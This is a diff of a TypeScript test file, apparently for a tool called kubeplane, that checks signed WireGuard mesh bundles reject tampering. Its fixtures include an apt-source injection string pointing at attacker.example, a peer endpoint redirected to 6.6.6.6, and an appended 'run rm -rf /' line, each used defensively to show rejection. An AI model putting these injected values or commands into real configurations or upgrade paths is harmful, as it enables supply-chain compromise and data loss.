@@ -21,7 +21,7 @@ const other = generateMeshSigningKeyPair();
 const work = mkdtempSync(join(tmpdir(), 'kubeplane-mesh-bundle-'));
 afterAll(() => rmSync(work, { recursive: true, force: true }));
 
-export const ATTACK_VERSION = '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example';
+const ATTACK_VERSION = '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example';
 
 function bundle(serial = 7): MeshBundle {
   return {
@@ -55,9 +55,15 @@ describe('the mesh bundle', () => {
     writeFileSync(files.doc, Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64'));
     writeFileSync(files.sig, Buffer.from(data[MESH_BUNDLE_SIGNATURE_KEY] ?? '', 'base64'));
     writeFileSync(files.pub, key.publicKeyPem);
-    const verify = (doc: string) => spawnSync('openssl', ['pkeyutl', '-verify', '-pubin', '-inkey', files.pub, '-rawin', '-in', doc, '-sigfile', files.sig], { encoding: 'utf8' });
+    const verify = (doc: string) =>
+      spawnSync('openssl', ['pkeyutl', '-verify', '-pubin', '-inkey', files.pub, '-rawin', '-in', doc, '-sigfile', files.sig], { encoding: 'utf8' });
     expect(verify(files.doc).status).toBe(0);
-    writeFileSync(join(work, 'doc2'), Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64').toString().replace('serial 7', 'serial 8'));
+    writeFileSync(
+      join(work, 'doc2'),
+      Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64')
+        .toString()
+        .replace('serial 7', 'serial 8'),
+    );
     expect(verify(join(work, 'doc2')).status).toBe(1);
   });
 
@@ -68,7 +74,9 @@ describe('the mesh bundle', () => {
 
   it('is refused when a peer line was changed after signing', () => {
     const data = signMeshBundle(bundle(), key.privateKeyPem);
-    const text = Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64').toString().replace('3.120.10.11:51820', '6.6.6.6:51820');
+    const text = Buffer.from(data[MESH_BUNDLE_KEY] ?? '', 'base64')
+      .toString()
+      .replace('3.120.10.11:51820', '6.6.6.6:51820');
     const check = verifyMeshBundle({ ...data, [MESH_BUNDLE_KEY]: Buffer.from(text).toString('base64') }, key.publicKeyPem);
     expect(check.ok).toBe(false);
   });
@@ -80,7 +88,9 @@ describe('the mesh bundle', () => {
   });
 
   it('is never signed with an upgrade version that is not x.y.z (the apt source injection)', () => {
-    expect(() => serializeMeshBundle({ ...bundle(), upgrade: { nodes: ['worker-1'], version: ATTACK_VERSION, package: '1.35.0-1.1', mode: 'node' } })).toThrow(/invalid upgrade line/);
+    expect(() => serializeMeshBundle({ ...bundle(), upgrade: { nodes: ['worker-1'], version: ATTACK_VERSION, package: '1.35.0-1.1', mode: 'node' } })).toThrow(
+      /invalid upgrade line/,
+    );
   });
 
   it('refuses the injection even when it carries a valid signature: every line must be one kubeplane writes', () => {
@@ -91,13 +101,23 @@ describe('the mesh bundle', () => {
 
   it.each([
     ['a node name that is not DNS-1123', (t: string) => t.replace('peer worker-1', 'peer Worker_1')],
-    ['a WireGuard key that is not 32 bytes of base64', (t: string) => t.replace('U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI=', 'U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI')],
+    [
+      'a WireGuard key that is not 32 bytes of base64',
+      (t: string) => t.replace('U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI=', 'U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI'),
+    ],
     ['an overlay address that is not IPv4', (t: string) => t.replace('192.168.2.21', '192.168.2.321')],
     ['an endpoint with a port out of range', (t: string) => t.replace(':51820', ':75820')],
     ['a package of another version', (t: string) => t.replace('1.35.0-1.1', '1.34.0-1.1')],
     ['a mode other than apply|node', (t: string) => t.replace(' node worker-1', ' reset worker-1')],
     ['a second serial', (t: string) => t.replace('serial 7\n', 'serial 7\nserial 9\n')],
-    ['the same node twice', (t: string) => t.replace('peer worker-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21', 'peer cp-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21')],
+    [
+      'the same node twice',
+      (t: string) =>
+        t.replace(
+          'peer worker-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21',
+          'peer cp-1 U5Qnj6eYHYsFDXrD33I3pCukWrQ0hMf/958i2ZMyhRI= 192.168.2.21',
+        ),
+    ],
     ['a line of an unknown kind', (t: string) => `${t}run rm -rf /\n`],
   ])('refuses %s, even signed', (_, change) => {
     const text = change(serializeMeshBundle(bundle()));
